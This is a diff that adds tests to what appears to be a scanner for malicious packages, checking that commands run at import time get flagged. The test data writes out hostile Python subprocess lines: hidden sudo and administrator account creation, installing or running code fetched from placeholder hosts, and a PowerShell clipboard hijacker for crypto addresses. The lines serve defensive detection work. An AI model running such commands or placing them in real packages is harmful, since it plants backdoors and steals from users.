@@ -119,3 +119,43 @@ test('a curl in a build whose answer goes nowhere is a message; one that fetches
   expect(await inspect('shell-payload', message)).toMatchObject([{ class: 'malware', score: 10 }]);
   expect((await inspect('shell-payload', fetched))[0]?.score ?? 0).toBeLessThan(5);
 });
+
+test.each([
+  ['an account', "subprocess.run('useradd -m svc && echo svc:x | chpasswd && usermod -aG sudo svc', shell=True)", 10],
+  [
+    'an account on Windows',
+    "subprocess.run('net user helper Inert123! /add & net localgroup administrators helper /add', shell=True)",
+    10,
+  ],
+  [
+    'a package of another language by its address',
+    "subprocess.Popen('npm install -g https://pkg.tools.invalid/a.tgz', shell=True)",
+    10,
+  ],
+  ['a module that is fetched and run', "subprocess.Popen(['go', 'run', 'go.tools.invalid/agent@latest'])", 6],
+  [
+    'a clipper',
+    "subprocess.Popen(['powershell', '-c', \"while(1){if((Get-Clipboard) -match '^0x'){Set-Clipboard '0x0'}}\"])",
+    10,
+  ],
+])('a command at import for %s is malware', async (_what, line, score) => {
+  const file = wheel({ 'pkg/__init__.py': python('import subprocess', line) });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score }]);
+});
+
+test('builds with Go and npm, tools from a code host, and accounts that a tool of operators makes are silent', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import subprocess',
+      'from setuptools import setup',
+      "subprocess.check_call(['go', 'build', './...'])",
+      "subprocess.check_call(['npm', 'install'])",
+      "subprocess.check_call('cargo install --git https://github.com/example-owner/tool', shell=True)",
+      "setup(name='example')",
+    ),
+    'pkg/__init__.py': python('import subprocess', 'def add(name):', "    subprocess.run(['useradd', '-m', name])"),
+  });
+
+  expect(await inspect('shell-payload', file)).toEqual([]);
+});
